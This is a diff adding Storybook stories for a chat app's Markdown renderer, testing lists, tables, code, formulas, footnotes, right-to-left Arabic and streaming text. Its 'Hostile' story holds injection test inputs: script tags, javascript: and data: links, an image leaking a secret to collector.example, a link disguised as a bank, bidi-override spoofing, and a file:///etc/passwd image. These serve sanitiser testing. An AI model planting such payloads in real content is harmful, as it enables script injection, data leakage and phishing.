@@ -1,0 +1,412 @@
+import type { Meta, StoryObj } from '@storybook/react-vite'
+import { Fragment, type ReactElement } from 'react'
+import { expect, userEvent, waitFor, within } from 'storybook/test'
+import type { ChatInHand } from '../fixtures/chatInHand.ts'
+import { handLoader } from '../fixtures/handLoader.ts'
+import { Stage, type StageProps } from '../fixtures/Stage.tsx'
+import { shikiHighlighter } from '../highlight/shikiHighlighter.ts'
+import { math } from '../math/math.ts'
+import { Markdown } from './Markdown.tsx'
+import type { MarkdownSettings } from './MarkdownContext.ts'
+
+interface Shown extends Pick<StageProps, 'theme' | 'dir' | 'widthPx' | 'heightPx'> {
+  /** One text, or several below each other. */
+  readonly texts: readonly string[]
+  readonly streaming: boolean
+}
+
+const settings: MarkdownSettings = {
+  ...math(),
+  pluginsSee: 'leaf',
+  highlighter: shikiHighlighter(),
+  allowedImageOrigins: ['https://cdn.example.com'],
+}
+
+const meta = {
+  args: { theme: 'light', heightPx: 480, texts: [], streaming: false },
+  loaders: [handLoader()],
+  render: ({ texts, streaming, ...stage }, { loaded }): ReactElement => (
+    <Stage hand={loaded['hand'] as ChatInHand} markdown={settings} {...stage}>
+      <div data-part="thread-scroller">
+        <div data-part="thread-content">
+          {texts.map((text, index) => (
+            <Fragment key={text}>
+              {index > 0 && <div style={{ blockSize: 16 }} />}
+              <Markdown text={text} streaming={streaming} />
+            </Fragment>
+          ))}
+        </div>
+      </div>
+    </Stage>
+  ),
+} satisfies Meta<Shown>
+
+export default meta
+
+type Story = StoryObj<typeof meta>
+
+const sink = `# A garden in one weekend
+
+It takes *two days*, **one spade** and ~~a lot of~~ ***some*** patience. The [soil guide](https://example.com/soil) says why clay needs sand, and so do they at https://garden.example.org/clay.
+
+## Saturday
+
+1. Mark the bed, four metres by one and a half.
+2. Cut the turf in strips:
+   - as wide as the spade,
+   - no deeper than \`5 cm\`:
+     - roots below that grow again,
+     - worms stay.
+3. Turn it over.
+
+### To buy
+
+- [x] Compost, 80 litres
+- [ ] Lime
+  - [x] tested the soil first
+- [ ] Seeds: *dill*, \`Phacelia\`
+
+> Who plants a tree in whose shade he will never sit has begun to see what life is about.
+>
+> - Said of many people,
+> - and written down by few.
+>
+> > Quoted from another quote.
+
+#### Rain, last week
+
+| City | Rain, mm | Wind | Remarks |
+| :--- | ---: | :---: | --- |
+| Bergen | 71 | W | on **six** days |
+| Cádiz | 0 | – | none since \`May\` |
+| Ulm | 18 | SW | one [thunderstorm](https://example.com/storm) |
+
+##### In one call
+
+\`\`\`ts
+/** Millimetres of rain over the last days. */
+export const rain = (days: readonly Day[]): number =>
+  days.reduce((sum, day) => sum + (day.rain ?? 0), 0)
+\`\`\`
+
+    A block that is indented, without a language.
+
+---
+
+###### Small print
+
+Two lines of an address\\
+end where they should, *\\*stars\\** stay, and so does AT&amp;T.`
+
+/** The last of what is coloured. */
+async function coloured(canvas: HTMLElement, last: string): Promise<void> {
+  await waitFor(() => expect(within(canvas).getByText(last).dataset['token']).toBeDefined(), {
+    timeout: 10_000,
+  })
+}
+
+export const KitchenSink: Story = {
+  args: { texts: [sink], heightPx: 1750 },
+  play: ({ canvasElement }) => coloured(canvasElement, '??'),
+}
+
+export const KitchenSinkDark: Story = {
+  args: { texts: [sink], heightPx: 1750, theme: 'dark' },
+  play: ({ canvasElement }) => coloured(canvasElement, '??'),
+}
+
+export const KitchenSinkOnAPhone: Story = {
+  args: { texts: [sink], heightPx: 2100, widthPx: 320 },
+  play: ({ canvasElement }) => coloured(canvasElement, '??'),
+}
+
+const arabicSink = `# حديقة في عطلة نهاية الأسبوع
+
+تحتاج إلى *يومين* و**مجرفة واحدة** وبعض الصبر. يشرح [دليل التربة](https://example.com/soil) السبب، والأمر \`npm run build\` يبني الموقع.
+
+## يوم السبت
+
+1. حدد الحوض: أربعة أمتار في متر ونصف.
+2. اقطع العشب شرائح:
+   - بعرض المجرفة،
+   - لا أعمق من \`5 cm\`.
+3. اقلب التربة.
+
+   اترك الديدان في مكانها.
+
+- [x] سماد
+- [ ] جير
+  - [ ] افحص التربة أولا
+
+> من يزرع شجرة لن يجلس في ظلها فقد بدأ يفهم الحياة.
+
+| المدينة | المطر | ملاحظات |
+| :--- | ---: | --- |
+| بيرغن | 71 مم | ستة أيام |
+| أولم | 18 مم | عاصفة واحدة |
+
+\`\`\`ts
+// English code in an Arabic answer
+const rain = days.reduce((sum, day) => sum + day.rain, 0)
+\`\`\`
+
+This paragraph is English, and stands on its own side.
+
+الحاشية هنا[^1].
+
+[^1]: من البيانات المفتوحة.`
+
+export const KitchenSinkInArabic: Story = {
+  args: { texts: [arabicSink], heightPx: 1250, dir: 'rtl' },
+  play: ({ canvasElement }) => coloured(canvasElement, '// English code in an Arabic answer'),
+}
+
+/** Each ends in the middle of something, and is shown as what it will most likely be. */
+const halfOpen = [
+  'The spade is **very sh',
+  'Run `npm instal',
+  'See the [soil guide](https://exam',
+  'The map is here: ![Map of the stat',
+  'It is one function:\n\n```python\ndef rain(city: str) -> float:\n    return sum(day.ra',
+  '| City | Rain, mm |\n| :--- | ---: |\n| Bergen | 71 |\n| Cád',
+  '1. Mark the bed.\n2. Cut the *turf',
+  '- [x] Compost\n- [ ] Li',
+  '> Who plants a tree in whose sha',
+  'Its area is $$a \\cdot b$$, its edge \\(2(a + b',
+]
+
+export const HalfOpen: Story = {
+  args: { texts: halfOpen, streaming: true, heightPx: 850 },
+  play: ({ canvasElement }) => coloured(canvasElement, 'def'),
+}
+
+export const HalfOpenDark: Story = {
+  args: { texts: halfOpen, streaming: true, heightPx: 850, theme: 'dark' },
+  play: ({ canvasElement }) => coloured(canvasElement, 'def'),
+}
+
+const code = `In a shell:
+
+\`\`\`sh
+curl -s https://example.com/rain.json | jq '.days[] | select(.rain > 5)'
+\`\`\`
+
+In a page, with its style:
+
+\`\`\`html
+<p class="rain">71 mm</p>
+<style>
+  .rain { color: #1f5fbf; }
+</style>
+\`\`\`
+
+1. In a list:
+
+   \`\`\`json
+   { "city": "Bergen", "rain": [71, 0, 18], "open": null }
+   \`\`\`
+
+2. And without a language:
+
+   \`\`\`
+   total 0
+   \`\`\`
+
+> \`\`\`diff
+> - const bees = 0
+> + const bees = 20_000
+> \`\`\``
+
+export const Code: Story = {
+  args: { texts: [code], heightPx: 850 },
+  play: ({ canvasElement }) => coloured(canvasElement, '+ const bees = 20_000'),
+}
+
+export const CodeDark: Story = {
+  args: { texts: [code], heightPx: 850, theme: 'dark' },
+  play: ({ canvasElement }) => coloured(canvasElement, '+ const bees = 20_000'),
+}
+
+export const CodeOnAPhone: Story = {
+  args: { texts: [code], heightPx: 900, widthPx: 320 },
+  play: ({ canvasElement }) => coloured(canvasElement, '+ const bees = 20_000'),
+}
+
+const tables = `Aligned each way:
+
+| Left | Centre | Right | By itself |
+| :--- | :---: | ---: | --- |
+| one | two | 3.50 | four |
+| \`a \\| b\` | **bold** | 1,200.00 | a cell with so many words that it needs a second line in any window |
+| | – | 0.10 | [a link](https://example.com) |
+
+Wider than the window:
+
+| Station | Latitude | Longitude | Elevation | Opened | Rain, mm | Snow, mm | Sun, hours |
+| --- | ---: | ---: | ---: | --- | ---: | ---: | ---: |
+| Bergen-Florida | 60.383 | 5.333 | 12 m | 1949 | 2,250 | 140 | 1,187 |
+| Cádiz | 36.500 | −6.258 | 2 m | 1955 | 523 | 0 | 3,184 |
+
+Only its head:
+
+| City | Rain |
+| --- | --- |`
+
+export const Tables: Story = { args: { texts: [tables], heightPx: 820 } }
+
+export const TablesDark: Story = { args: { texts: [tables], heightPx: 820, theme: 'dark' } }
+
+export const TablesOnAPhone: Story = { args: { texts: [tables], heightPx: 1000, widthPx: 320 } }
+
+const formulas = `The roots of $$ax^2 + bx + c = 0$$ are where \\(x\\) is:
+
+$$
+x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
+$$
+
+With $5 and $6 left alone, line by line:
+
+\\[
+\\begin{aligned}
+\\nabla \\cdot \\mathbf{E} &= \\frac{\\rho}{\\varepsilon_0} \\\\
+\\nabla \\times \\mathbf{B} &= \\mu_0 \\left( \\mathbf{J} + \\varepsilon_0 \\frac{\\partial \\mathbf{E}}{\\partial t} \\right)
+\\end{aligned}
+\\]
+
+- In a list \\(\\sum_{i=1}^{n} i = \\tfrac{n(n+1)}{2}\\), and on its own line:
+
+  $$\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}$$
+
+| Name | Formula |
+| --- | --- |
+| Matrix | $$\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$$ |
+
+Wider than the window:
+
+$$a_0 + a_1 x + a_2 x^2 + a_3 x^3 + a_4 x^4 + a_5 x^5 + a_6 x^6 + a_7 x^7 + a_8 x^8 + a_9 x^9 + a_{10} x^{10} + a_{11} x^{11} = 0$$
+
+$$f(x) = \\begin{cases} 1 & \\text{if } x > 0 \\\\ 0 & \\text{otherwise} \\end{cases} \\tag{1}$$
+
+Wrong: \\(\\frac{b\\), and on its own line
+
+$$
+x^2^3
+$$`
+
+export const Formulas: Story = { args: { texts: [formulas], heightPx: 1050 } }
+
+export const FormulasDark: Story = { args: { texts: [formulas], heightPx: 1050, theme: 'dark' } }
+
+export const FormulasOnAPhone: Story = {
+  args: { texts: [formulas], heightPx: 1150, widthPx: 320 },
+}
+
+export const FormulasInArabic: Story = {
+  args: {
+    texts: [
+      `حل المعادلة \\(ax^2 + bx + c = 0\\) هو:
+
+$$
+x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
+$$
+
+- مجموع الأعداد \\(\\sum_{i=1}^{n} i\\) معروف،
+- وهذا خطأ: \\(\\frac{b\\).
+
+$$a_0 + a_1 x + a_2 x^2 + a_3 x^3 + a_4 x^4 + a_5 x^5 + a_6 x^6 + a_7 x^7 + a_8 x^8 + a_9 x^9 = 0$$`,
+    ],
+    heightPx: 400,
+    dir: 'rtl',
+  },
+}
+
+const footnotes = `Bees fly up to three kilometres[^far], rarely further[^1]. The figure is old[^far], and the [source][paper] older; [this one][nowhere] is not defined.
+
+Here is text behind it, so that the notes are seen to be at the end.
+
+[^far]: Measured with painted bees, and later with radar.
+[^1]: Two notes:
+
+    - a list in a note,
+    - with a [link](https://example.com/radar).
+
+[paper]: https://journal.example.org/1923 "On the range of bees"`
+
+export const FootnotesAndDefinitions: Story = { args: { texts: [footnotes], heightPx: 420 } }
+
+export const FootnotesAndDefinitionsDark: Story = {
+  args: { texts: [footnotes], heightPx: 420, theme: 'dark' },
+}
+
+const hostile = `<script>alert('written')</script>
+
+<img src=x onerror="alert(1)"> within a line, <b>not bold</b>.
+
+A [dead link](javascript:alert(1)), a [hidden one](<java\tscript:alert(1)>), one to [data](data:text/html,<script>alert(1)</script>), one to [a place of the page](#/settings), and [one that leads elsewhere](https://evil.example/bank.example.com "bank.example.com").
+
+An image that would tell: ![](https://collector.example/?secret=1234)
+
+[![Press me](https://collector.example/button.png)](https://evil.example)
+
+Turned round: \u202Etxt.exe\u202C, and [a \u202Eknil\u202C](https://example.com/\u202Egpj.exe).
+
+\`\`\`js
+if (role !== 'user\u202E \u2066// only for admins\u2069 \u2066') {
+  grant() // ‏\u200Fתודה
+}
+\`\`\`
+
+<iframe src="https://collector.example"></iframe>
+
+<style>* { display: none }</style>`
+
+export const Hostile: Story = {
+  args: { texts: [hostile], heightPx: 640 },
+  play: ({ canvasElement }) => coloured(canvasElement, 'if'),
+}
+
+export const HostileDark: Story = {
+  args: { texts: [hostile], heightPx: 640, theme: 'dark' },
+  play: ({ canvasElement }) => coloured(canvasElement, 'if'),
+}
+
+/** Six bars, 320 by 160. */
+const chart =
+  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAUAAAACgAgMAAAAzV0PAAAADFBMVEXp7/gfX7+KtPDI1uvdzdc8AAAAX0lEQVR42u3NsQ0AIAgAQZd0SZfUxspKFAuT+5LAUYokSfqwNgMCgSfg8SMgEAjMBaOHQCAQ+BFYZ0AgEAgErvs7H4FAIBAIvAGjcyAQCAQCgUAgEAhMAXtar0BJet8A0UswpApxO7wAAAAASUVORK5CYII='
+
+const images = `A chart that came with the message:
+
+![Rain by month](${chart})
+
+One from elsewhere: ![Map of the stations, with those that were closed last year](https://maps.example.com/stations.png) in the middle of a sentence.
+
+One within a link: [![Chart of the week](https://charts.example.net/week.png)](https://charts.example.net), and one that is none: ![a file](file:///etc/passwd).
+
+[![Rain by month](${chart})](https://charts.example.net)`
+
+export const Images: Story = { args: { texts: [images], heightPx: 600 } }
+
+export const ImagesDark: Story = { args: { texts: [images], heightPx: 600, theme: 'dark' } }
+
+/** Tab to a link, a formula, an image: what is reached by keyboard is seen. */
+export const FocusOnALink: Story = {
+  args: { texts: ['The [soil guide](https://example.com/soil) says why.'], heightPx: 90 },
+  play: async ({ canvasElement }) => {
+    within(canvasElement).getByRole('link').focus()
+    await userEvent.keyboard('{Shift}')
+  },
+}
+
+const more = 'A text of more than a megabyte. '.repeat(32_768) + 'And its end.'
+
+export const MoreOnRequest: Story = {
+  args: { texts: [more], heightPx: 240 },
+  play: async ({ canvasElement }) => {
+    const button = await within(canvasElement).findByRole(
+      'button',
+      { name: /^Show more/ },
+      { timeout: 30_000 },
+    )
+    button.scrollIntoView({ block: 'end' })
+  },
+}
